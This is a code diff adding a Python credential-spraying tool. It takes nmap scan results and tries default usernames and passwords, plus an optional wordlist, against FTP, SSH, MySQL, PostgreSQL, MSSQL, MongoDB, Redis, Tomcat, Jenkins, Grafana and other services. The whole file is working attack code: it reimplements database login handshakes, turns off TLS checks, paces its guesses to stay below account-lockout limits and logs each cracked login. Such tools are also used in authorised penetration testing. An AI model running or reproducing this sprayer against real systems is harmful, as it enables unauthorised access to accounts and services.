@@ -0,0 +1,806 @@
+#!/usr/bin/env python3
+"""
+Default credential sprayer
+Tries default_creds.json against scanned services through per-protocol handlers
+"""
+
+import base64
+import ftplib
+import hashlib
+import hmac
+import json
+import os
+import socket
+import ssl
+import struct
+import threading
+import time
+from collections import deque
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from pathlib import Path
+import requests
+import urllib3
+
+try:
+    import paramiko
+except ImportError:
+    paramiko = None
+
+try:
+    import pymssql
+except ImportError:
+    pymssql = None
+
+try:
+    import pymongo
+except ImportError:
+    pymongo = None
+
+urllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)
+
+DEFAULT_CREDS = Path(__file__).resolve().parent.parent / "data" / "default_creds.json"
+
+# Attempts allowed per account within the window before the sprayer waits - below common lockout policies
+DEFAULT_ATTEMPTS = 5
+DEFAULT_WINDOW = 300.0
+
+# Seconds to back off each time a server signals throttling or lockout, then give the target up
+LOCKOUT_BACKOFF = (10, 30)
+
+class LockedOut(Exception):
+    """The server is refusing or throttling attempts"""
+
+class Unsupported(Exception):
+    """The handler can't test this target"""
+
+def _xor(a, b):
+    return bytes(x ^ y for x, y in zip(a, b))
+
+def _recv_exact(sock, size):
+    data = bytearray()
+    while len(data) < size:
+        chunk = sock.recv(size - len(data))
+        if not chunk:
+            raise ConnectionError('connection closed by server')
+        data.extend(chunk)
+    return bytes(data)
+
+class Handler:
+    """One login session against one service - connect once, then login() per credential"""
+
+    creds = None        # default_creds.json section
+    reuse = True        # the connection survives a failed attempt
+
+    def __init__(self, host, port, timeout=5, tls=False):
+        self.host = host
+        self.port = port
+        self.timeout = timeout
+        self.tls = tls
+
+    def connect(self):
+        pass
+
+    def login(self, username, password):
+        """(success, note) - raises LockedOut, Unsupported, or OSError when the session died"""
+        raise NotImplementedError
+
+    def close(self):
+        pass
+
+class FTPHandler(Handler):
+    creds = 'ftp'
+
+    def connect(self):
+        self.conn = ftplib.FTP(timeout=self.timeout)
+        self.conn.connect(self.host, self.port)
+
+    def login(self, username, password):
+        try:
+            self.conn.login(username, password)
+        except ftplib.error_perm:
+            return False, None
+        except ftplib.error_temp as e:
+            # 421 - too many connections or failed logins
+            raise LockedOut(str(e))
+        except EOFError:
+            raise ConnectionError('connection closed by server')
+        return True, 'anonymous access' if username == 'anonymous' else None
+
+    def close(self):
+        conn = getattr(self, 'conn', None)
+        if conn:
+            conn.close()
+
+class RedisHandler(Handler):
+    creds = 'redis'
+
+    def connect(self):
+        self.sock = socket.create_connection((self.host, self.port), self.timeout)
+        self.reader = self.sock.makefile('rb')
+
+    def _command(self, *args):
+        parts = [f"*{len(args)}\r\n".encode()]
+        for arg in args:
+            arg = arg.encode()
+            parts.append(b'$%d\r\n%s\r\n' % (len(arg), arg))
+        self.sock.sendall(b''.join(parts))
+        reply = self.reader.readline()
+        if not reply:
+            raise ConnectionError('connection closed by server')
+        return reply.decode('utf-8', 'replace').strip()
+
+    def login(self, username, password):
+        if not password:
+            reply = self._command('PING')
+            return (True, 'no authentication required') if reply.startswith('+') else (False, None)
+        args = ('AUTH', password) if username in ('', 'default') else ('AUTH', username, password)
+        reply = self._command(*args)
+        if reply.startswith('+'):
+            return True, None
+        if 'without any password configured' in reply or 'no password is set' in reply:
+            return True, 'no authentication required'
+        return False, None
+
+    def close(self):
+        sock = getattr(self, 'sock', None)
+        if sock:
+            sock.close()
+
+# MySQL capability flags
+CLIENT_LONG_PASSWORD = 0x1
+CLIENT_PROTOCOL_41 = 0x200
+CLIENT_SSL = 0x800
+CLIENT_SECURE_CONNECTION = 0x8000
+CLIENT_PLUGIN_AUTH = 0x80000
+
+# MySQL errors meaning "stop and wait": blocked host, too many connections, locked account
+MYSQL_LOCKOUT_ERRORS = {1129, 1040, 3118, 3955}
+
+class MySQLHandler(Handler):
+    """Native protocol login - mysql_native_password and caching_sha2_password"""
+
+    creds = 'mysql'
+    reuse = False
+
+    def connect(self):
+        self.sock = socket.create_connection((self.host, self.port), self.timeout)
+
+    def _read(self):
+        header = _recv_exact(self.sock, 4)
+        size = int.from_bytes(header[:3], 'little')
+        return header[3], _recv_exact(self.sock, size)
+
+    def _write(self, seq, payload):
+        self.sock.sendall(len(payload).to_bytes(3, 'little') + bytes([seq & 0xff]) + payload)
+
+    @staticmethod
+    def _scramble(plugin, password, salt):
+        if not password:
+            return b''
+        password = password.encode()
+        if plugin == 'caching_sha2_password':
+            digest = hashlib.sha256(password).digest()
+            return _xor(digest, hashlib.sha256(hashlib.sha256(digest).digest() + salt).digest())
+        digest = hashlib.sha1(password).digest()
+        return _xor(digest, hashlib.sha1(salt + hashlib.sha1(digest).digest()).digest())
+
+    @staticmethod
+    def _error(payload):
+        code = int.from_bytes(payload[1:3], 'little')
+        if code in MYSQL_LOCKOUT_ERRORS:
+            raise LockedOut(payload[3:].decode('utf-8', 'replace').lstrip('#'))
+        return code
+
+    def login(self, username, password):
+        seq, greeting = self._read()
+        if greeting[0] == 0xff:
+            self._error(greeting)
+            raise ConnectionError('server refused the connection')
+
+        # Handshake v10: version, thread id, salt part 1, capabilities, ..., salt part 2, plugin
+        pos = greeting.index(b'\0', 1) + 1 + 4
+        salt = greeting[pos:pos + 8]
+        pos += 9
+        capabilities = int.from_bytes(greeting[pos:pos + 2], 'little')
+        pos += 2
+        plugin = 'mysql_native_password'
+        if len(greeting) > pos:
+            capabilities |= int.from_bytes(greeting[pos + 3:pos + 5], 'little') << 16
+            salt_length = greeting[pos + 5]
+            pos += 16
+            if capabilities & CLIENT_SECURE_CONNECTION:
+                extra = max(13, salt_length - 8)
+                salt += greeting[pos:pos + extra - 1]
+                pos += extra
+            if capabilities & CLIENT_PLUGIN_AUTH:
+                plugin = greeting[pos:].split(b'\0', 1)[0].decode() or plugin
+
+        flags = CLIENT_LONG_PASSWORD | CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION | CLIENT_PLUGIN_AUTH
+        secure = False
+        if capabilities & CLIENT_SSL:
+            # TLS lets caching_sha2_password finish a full authentication with the plain password
+            flags |= CLIENT_SSL
+            seq += 1
+            self._write(seq, struct.pack('<IIB23x', flags, 1 << 24, 33))
+            context = ssl.create_default_context()
+            context.check_hostname = False
+            context.verify_mode = ssl.CERT_NONE
+            self.sock = context.wrap_socket(self.sock)
+            secure = True
+
+        if plugin not in ('mysql_native_password', 'caching_sha2_password'):
+            plugin = 'mysql_native_password'
+        scramble = self._scramble(plugin, password, salt)
+        seq += 1
+        self._write(seq, struct.pack('<IIB23x', flags, 1 << 24, 33) + username.encode() + b'\0'
+                    + bytes([len(scramble)]) + scramble + plugin.encode() + b'\0')
+
+        while True:
+            seq, packet = self._read()
+            if packet[0] == 0x00:
+                return True, None if password else 'empty password'
+            if packet[0] == 0xff:
+                self._error(packet)
+                return False, None
+            if packet[0] == 0xfe:
+                # Auth switch request - answer with the plugin the server asked for
+                plugin, _, salt = packet[1:].partition(b'\0')
+                plugin = plugin.decode()
+                if plugin not in ('mysql_native_password', 'caching_sha2_password'):
+                    raise Unsupported(f"auth plugin {plugin}")
+                self._write(seq + 1, self._scramble(plugin, password, salt.rstrip(b'\0')))
+            elif packet[:2] == b'\x01\x04':
+                # caching_sha2_password full authentication
+                if not secure:
+                    raise Unsupported('caching_sha2_password full authentication needs TLS')
+                self._write(seq + 1, password.encode() + b'\0')
+            elif packet[0] != 0x01:
+                raise ConnectionError('unexpected MySQL packet')
+
+    def close(self):
+        sock = getattr(self, 'sock', None)
+        if sock:
+            sock.close()
+
+class PostgresHandler(Handler):
+    """Startup-message login - cleartext, md5 and SCRAM-SHA-256"""
+
+    creds = 'postgres'
+    reuse = False
+
+    def connect(self):
+        self.sock = socket.create_connection((self.host, self.port), self.timeout)
+
+    def _send(self, kind, payload):
+        self.sock.sendall(kind + struct.pack('!i', len(payload) + 4) + payload)
+
+    def _read(self):
+        kind = _recv_exact(self.sock, 1)
+        size = struct.unpack('!i', _recv_exact(self.sock, 4))[0]
+        return kind, _recv_exact(self.sock, size - 4)
+
+    def login(self, username, password):
+        params = b'user\0' + username.encode() + b'\0database\0postgres\0\0'
+        self.sock.sendall(struct.pack('!ii', len(params) + 8, 196608) + params)
+        scram = None
+
+        while True:
+            kind, payload = self._read()
+            if kind == b'E':
+                fields = {part[:1]: part[1:].decode('utf-8', 'replace') for part in payload.split(b'\0') if part}
+                code = fields.get(b'C', '')
+                if code == '3D000':
+                    # The database check only runs after authentication succeeded
+                    return True, 'authenticated (no postgres database)'
+                if code == '53300':
+                    raise LockedOut(fields.get(b'M', 'too many connections'))
+                return False, None
+            if kind != b'R':
+                continue
+
+            code = struct.unpack('!i', payload[:4])[0]
+            data = payload[4:]
+            if code == 0:
+                return True, None
+            if code == 3:
+                self._send(b'p', password.encode() + b'\0')
+            elif code == 5:
+                inner = hashlib.md5(password.encode() + username.encode()).hexdigest()
+                self._send(b'p', b'md5' + hashlib.md5(inner.encode() + data[:4]).hexdigest().encode() + b'\0')
+            elif code == 10:
+                if b'SCRAM-SHA-256\0' not in data:
+                    raise Unsupported('no supported SASL mechanism')
+                nonce = base64.b64encode(os.urandom(18)).decode()
+                scram = {'nonce': nonce, 'first_bare': f"n=,r={nonce}"}
+                first = f"n,,{scram['first_bare']}".encode()
+                self._send(b'p', b'SCRAM-SHA-256\0' + struct.pack('!i', len(first)) + first)
+            elif code == 11:
+                server_first = data.decode()
+                attrs = dict(item.split('=', 1) for item in server_first.split(','))
+                if not attrs['r'].startswith(scram['nonce']):
+                    raise ConnectionError('SCRAM nonce mismatch')
+                salted = hashlib.pbkdf2_hmac('sha256', password.encode(), base64.b64decode(attrs['s']), int(attrs['i']))
+                client_key = hmac.new(salted, b'Client Key', hashlib.sha256).digest()
+                stored_key = hashlib.sha256(client_key).digest()
+                final_bare = f"c=biws,r={attrs['r']}"
+                auth_message = f"{scram['first_bare']},{server_first},{final_bare}".encode()
+                proof = _xor(client_key, hmac.new(stored_key, auth_message, hashlib.sha256).digest())
+                self._send(b'p', f"{final_bare},p={base64.b64encode(proof).decode()}".encode())
+            elif code != 12:
+                raise Unsupported(f"authentication method {code}")
+
+    def close(self):
+        sock = getattr(self, 'sock', None)
+        if sock:
+            sock.close()
+
+class SSHHandler(Handler):
+    """Password auth over one transport until the server's MaxAuthTries (needs paramiko)"""
+
+    creds = 'ssh'
+
+    def connect(self):
+        if paramiko is None:
+            raise Unsupported('paramiko not installed')
+        sock = socket.create_connection((self.host, self.port), self.timeout)
+        self.transport = paramiko.Transport(sock)
+        try:
+            self.transport.start_client(timeout=self.timeout)
+        except paramiko.SSHException as e:
+            self.transport.close()
+            raise ConnectionError(str(e))
+
+    def login(self, username, password):
+        try:
+            self.transport.auth_password(username, password)
+        except paramiko.BadAuthenticationType:
+            raise Unsupported('password authentication disabled')
+        except paramiko.AuthenticationException:
+            return False, None
+        except paramiko.SSHException as e:
+            raise ConnectionError(str(e))
+        return True, None
+
+    def close(self):
+        transport = getattr(self, 'transport', None)
+        if transport:
+            transport.close()
+
+class MSSQLHandler(Handler):
+    """TDS login through pymssql when it is installed"""
+
+    creds = 'mssql'
+    reuse = False
+
+    def connect(self):
+        if pymssql is None:
+            raise Unsupported('pymssql not installed')
+
+    def login(self, username, password):
+        try:
+            pymssql.connect(server=self.host, port=self.port, user=username, password=password,
+                            login_timeout=self.timeout).close()
+        except pymssql.OperationalError as e:
+            message = str(e)
+            if '18486' in message:
+                raise LockedOut('account locked out')
+            if '18456' in message:
+                return False, None
+            raise ConnectionError(message)
+        return True, None
+
+class MongoHandler(Handler):
+    """SCRAM login through pymongo when it is installed"""
+
+    creds = 'mongodb'
+    reuse = False
+
+    def connect(self):
+        if pymongo is None:
+            raise Unsupported('pymongo not installed')
+
+    def login(self, username, password):
+        client = pymongo.MongoClient(self.host, self.port, username=username, password=password,
+                                     authSource='admin', serverSelectionTimeoutMS=self.timeout * 1000)
+        try:
+            client.admin.command('ping')
+        except pymongo.errors.OperationFailure:
+            return False, None
+        except pymongo.errors.PyMongoError as e:
+            raise ConnectionError(str(e))
+        finally:
+            client.close()
+        return True, None
+
+class HTTPBasicHandler(Handler):
+    """HTTP basic auth on one path over a keep-alive session"""
+
+    creds = 'web'
+    path = '/'
+
+    def connect(self):
+        self.base = f"{'https' if self.tls else 'http'}://{self.host}:{self.port}"
+        self.session = requests.Session()
+        self.session.verify = False
+        self.check()
+
+    def _get(self, auth=None):
+        return self.session.get(self.base + self.path, auth=auth, timeout=self.timeout, allow_redirects=False)
+
+    def check(self):
+        """Only spray paths that actually challenge for basic auth"""
+        response = self._get()
+        if response.status_code != 401 or 'basic' not in response.headers.get('WWW-Authenticate', '').lower():
+            raise Unsupported(f"{self.path} does not ask for basic auth")
+
+    def login(self, username, password):
+        response = self._get((username, password))
+        if response.status_code == 429:
+            raise LockedOut('HTTP 429')
+        if response.status_code == 401:
+            return False, None
+        if response.status_code == 403:
+            return True, 'authenticated, but forbidden (HTTP 403)'
+        return True, None
+
+    def close(self):
+        session = getattr(self, 'session', None)
+        if session:
+            session.close()
+
+class TomcatHandler(HTTPBasicHandler):
+    creds = 'tomcat'
+    path = '/manager/html'
+
+class RabbitMQHandler(HTTPBasicHandler):
+    creds = 'rabbitmq'
+    path = '/api/whoami'
+
+class ElasticsearchHandler(HTTPBasicHandler):
+    creds = 'elasticsearch'
+    path = '/_security/_authenticate'
+
+class JenkinsHandler(HTTPBasicHandler):
+    creds = 'jenkins'
+    path = '/j_spring_security_check'
+
+    def check(self):
+        response = self.session.get(self.base + '/login', timeout=self.timeout)
+        if response.status_code != 200 or 'j_username' not in response.text:
+            raise Unsupported('no Jenkins login form')
+
+    def login(self, username, password):
+        response = self.session.post(self.base + self.path, timeout=self.timeout, allow_redirects=False,
+                                     data={'j_username': username, 'j_password': password, 'from': '/'})
+        if response.status_code == 429:
+            raise LockedOut('HTTP 429')
+        location = response.headers.get('Location', '')
+        return response.status_code in (302, 303) and 'loginError' not in location, None
+
+class GrafanaHandler(HTTPBasicHandler):
+    creds = 'grafana'
+    path = '/login'
+
+    def check(self):
+        response = self.session.get(self.base + self.path, timeout=self.timeout)
+        if response.status_code != 200 or 'grafana' not in response.text.lower():
+            raise Unsupported('no Grafana login page')
+
+    def login(self, username, password):
+        response = self.session.post(self.base + self.path, timeout=self.timeout,
+                                     json={'user': username, 'password': password})
+        if response.status_code == 429 or 'too many' in response.text.lower():
+            raise LockedOut('login attempts blocked')
+        return response.status_code == 200, None
+
+HANDLERS = {
+    'ftp': FTPHandler,
+    'ssh': SSHHandler,
+    'mysql': MySQLHandler,
+    'postgres': PostgresHandler,
+    'mssql': MSSQLHandler,
+    'mongodb': MongoHandler,
+    'redis': RedisHandler,
+    'tomcat': TomcatHandler,
+    'web': HTTPBasicHandler,
+    'jenkins': JenkinsHandler,
+    'grafana': GrafanaHandler,
+    'rabbitmq': RabbitMQHandler,
+    'elasticsearch': ElasticsearchHandler
+}
+
+HTTP_HANDLERS = ('tomcat', 'jenkins', 'web')
+
+# nmap service name -> handlers to try
+SERVICE_HANDLERS = {
+    'ftp': ('ftp',),
+    'ssh': ('ssh',),
+    'mysql': ('mysql',),
+    'postgresql': ('postgres',),
+    'ms-sql-s': ('mssql',),
+    'mongod': ('mongodb',),
+    'mongodb': ('mongodb',),
+    'redis': ('redis',),
+    'http': HTTP_HANDLERS,
+    'https': HTTP_HANDLERS,
+    'http-proxy': HTTP_HANDLERS,
+    'http-alt': HTTP_HANDLERS,
+    'https-alt': HTTP_HANDLERS,
+    'ajp13': ()
+}
+
+# Well-known ports nmap names after something else
+PORT_HANDLERS = {
+    3000: ('grafana',),
+    6379: ('redis',),
+    9200: ('elasticsearch',),
+    15672: ('rabbitmq',)
+}
+
+TLS_PORTS = {443, 8443, 9443}
+
+class SprayTarget:
+    __slots__ = ('host', 'port', 'service', 'tls')
+
+    def __init__(self, host, port, service, tls=False):
+        self.host = host
+        self.port = port
+        self.service = service
+        self.tls = tls
+
+    @property
+    def key(self):
+        return (self.host, self.port, self.service)
+
+    def __repr__(self):
+        return f"SprayTarget({self.host}:{self.port} {self.service})"
+
+class CredHit:
+    __slots__ = ('host', 'port', 'service', 'username', 'password', 'note')
+
+    def __init__(self, host, port, service, username, password, note=None):
+        self.host = host
+        self.port = port
+        self.service = service
+        self.username = username
+        self.password = password
+        self.note = note
+
+    def to_dict(self):
+        return {
+            'host': self.host,
+            'port': self.port,
+            'service': self.service,
+            'username': self.username,
+            'password': self.password,
+            'note': self.note
+        }
+
+class Pacer:
+    """Per-account attempt budget over a sliding window, plus a minimum gap per service"""
+
+    def __init__(self, attempts=DEFAULT_ATTEMPTS, window=DEFAULT_WINDOW, delay=0.0):
+        self.attempts = attempts
+        self.window = window
+        self.delay = delay
+        self._history = {}      # (host, port, username) -> deque of attempt times
+        self._last = {}         # (host, port) -> last attempt time
+        self._lock = threading.Lock()
+
+    def reserve(self, host, port, username):
+        """Reserve the next allowed attempt slot - seconds until it comes round"""
+        with self._lock:
+            now = time.monotonic()
+            slot = now
+            if self.attempts:
+                history = self._history.setdefault((host, port, username), deque())
+                while history and history[0] <= now - self.window:
+                    history.popleft()
+                if len(history) >= self.attempts:
+                    slot = history[-self.attempts] + self.window
+                history.append(slot)
+            if self.delay:
+                slot = max(slot, self._last.get((host, port), 0.0) + self.delay)
+                self._last[(host, port)] = slot
+        return max(0.0, slot - now)
+
+    def wait(self, host, port, username):
+        """Reserve the next allowed attempt slot and sleep until it comes round"""
+        delay = self.reserve(host, port, username)
+        if delay:
+            time.sleep(delay)
+        return delay
+
+class CredentialSprayer:
+    def __init__(self, creds_file=DEFAULT_CREDS, workers=16, per_host=4, sessions=2, timeout=5,
+                 lockout_attempts=DEFAULT_ATTEMPTS, lockout_window=DEFAULT_WINDOW, delay=0.0, passwords=None):
+        self.creds_file = Path(creds_file)
+        self.passwords = passwords      # optional Wordlist tried for every default username
+        self.workers = workers
+        self.per_host = per_host
+        self.sessions = sessions
+        self.timeout = timeout
+        self.pacer = Pacer(lockout_attempts, lockout_window, delay)
+        self.handlers = dict(HANDLERS)
+        self.service_handlers = dict(SERVICE_HANDLERS)
+        self.port_handlers = dict(PORT_HANDLERS)
+        self.skipped = {}       # target key -> reason
+        self.stats = {}
+
+    def add_handler(self, name, handler, services=(), ports=()):
+        """Register a protocol handler and the nmap services/ports it applies to"""
+        self.handlers[name] = handler
+        for service in services:
+            self.service_handlers[service] = tuple(self.service_handlers.get(service, ())) + (name,)
+        for port in ports:
+            self.port_handlers[port] = tuple(self.port_handlers.get(port, ())) + (name,)
+
+    def load_creds(self):
+        with open(self.creds_file) as f:
+            return {service: [(c['username'], c['password']) for c in entries]
+                    for service, entries in json.load(f).items()}
+
+    def targets(self, result, services=None):
+        """SprayTargets for every open port of a ScanResult that some handler covers"""
+        targets = []
+        for host in result:
+            for port in host.open_ports():
+                name = port.service.name
+                wanted = list(self.service_handlers.get(name, ()))
+                wanted += [h for h in self.port_handlers.get(port.number, ()) if h not in wanted]
+                tls = 'https' in name or 'ssl' in name or port.number in TLS_PORTS
+                for handler in wanted:
+                    if handler in self.handlers and (not services or handler in services):
+                        targets.append(SprayTarget(host.address, port.number, handler, tls))
+        return targets
+
+    def run(self, targets, output_file=None, on_hit=None):
+        """Spray every target with its section of the credential file"""
+        creds = self.load_creds()
+        hits = []
+        counts = {'attempts': 0, 'connections': 0, 'errors': 0, 'paced': 0.0, 'locked': 0}
+        host_slots = {}
+        abandoned = set()
+        cracked = set()         # (target key, username)
+        lock = threading.Lock()
+        out = open(output_file, 'a') if output_file else None
+        started = time.perf_counter()
+        self.skipped = {}
+
+        def _count(name, value=1):
+            with lock:
+                counts[name] += value
+
+        def _abandon(target, reason):
+            with lock:
+                abandoned.add(target.key)
+                self.skipped.setdefault(target.key, reason)
+
+        def _session(target, chunk):
+            handler = self.handlers[target.service](target.host, target.port, self.timeout, target.tls)
+            connected = False
+            slot = host_slots[target.host]
+            with slot:
+                try:
+                    for username, password in chunk:
+                        if target.key in abandoned:
+                            return
+                        if (target.key, username) in cracked:
+                            # Further guesses for a cracked account only burn its lockout budget
+                            continue
+                        delay = self.pacer.reserve(target.host, target.port, username)
+                        if delay:
+                            # Hand the host slot to other accounts and services while this one waits out its window
+                            slot.release()
+                            if delay > self.timeout:
+                                handler.close()
+                                connected = False
+                            try:
+                                time.sleep(delay)
+                            finally:
+                                slot.acquire()
+                            _count('paced', delay)
+                            if target.key in abandoned:
+                                return
+                            if (target.key, username) in cracked:
+                                continue
+                        outcome = None
+                        backoff = iter(LOCKOUT_BACKOFF)
+                        retried = False
+                        while outcome is None:
+                            fresh = not connected
+                            try:
+                                if fresh:
+                                    handler.connect()
+                                    connected = True
+                                    _count('connections')
+                                outcome = handler.login(username, password)
+                            except Unsupported as e:
+                                _abandon(target, str(e))
+                                return
+                            except LockedOut as e:
+                                handler.close()
+                                connected = False
+                                delay = next(backoff, None)
+                                if delay is None:
+                                    _count('locked')
+                                    _abandon(target, f"locked out: {e}")
+                                    return
+                                time.sleep(delay)
+                            except (OSError, EOFError, ValueError, requests.RequestException) as e:
+                                handler.close()
+                                connected = False
+                                if not fresh:
+                                    # The server dropped a reused session (e.g. max login failures) - reconnect
+                                    continue
+                                _count('errors')
+                                if retried:
+                                    _abandon(target, f"connection failed: {e}")
+                                    return
+                                retried = True
+
+                        _count('attempts')
+                        success, note = outcome
+                        if success:
+                            hit = CredHit(target.host, target.port, target.service, username, password, note)
+                            with lock:
+                                cracked.add((target.key, username))
+                                hits.append(hit)
+                                if out:
+                                    out.write(json.dumps(hit.to_dict()) + '\n')
+                                    out.flush()
+                                if on_hit:
+                                    on_hit(hit)
+                        if success or not handler.reuse:
+                            handler.close()
+                            connected = False
+                finally:
+                    handler.close()
+
+        def _passlist(target, username, shard):
+            for password in shard:
+                if (target.key, username) in cracked:
+                    return
+                yield username, password
+
+        jobs = []
+        for target in targets:
+            host_slots.setdefault(target.host, threading.BoundedSemaphore(self.per_host))
+            entries = creds.get(self.handlers[target.service].creds, [])
+            # Every attempt on one username stays in one session, so pacing and lockouts stay per account
+            by_user = {}
+            for username, password in entries:
+                by_user.setdefault(username, []).append((username, password))
+            chunks = [[] for _ in range(max(1, min(self.sessions, len(by_user))))]
+            for i, group in enumerate(by_user.values()):
+                chunks[i % len(chunks)].extend(group)
+            jobs.extend((target, chunk) for chunk in chunks if chunk)
+
+            if self.passwords is not None:
+                # Passlist guesses per account are sharded across sessions and streamed from the mapped file
+                for username in by_user:
+                    for i in range(self.sessions):
+                        jobs.append((target, _passlist(target, username, self.passwords.shard(i, self.sessions))))
+
+        try:
+            with ThreadPoolExecutor(max_workers=self.workers) as executor:
+                futures = [executor.submit(_session, target, chunk) for target, chunk in jobs]
+                for future in as_completed(futures):
+                    future.result()
+        finally:
+            if out:
+                out.close()
+
+        elapsed = time.perf_counter() - started
+        self.stats = {
+            'targets': len(targets),
+            'attempts': counts['attempts'],
+            'hits': len(hits),
+            'connections': counts['connections'],
+            'errors': counts['errors'],
+            'locked': counts['locked'],
+            'paced': counts['paced'],
+            'elapsed': elapsed,
+            'rate': counts['attempts'] / elapsed if elapsed else 0.0
+        }
+        return hits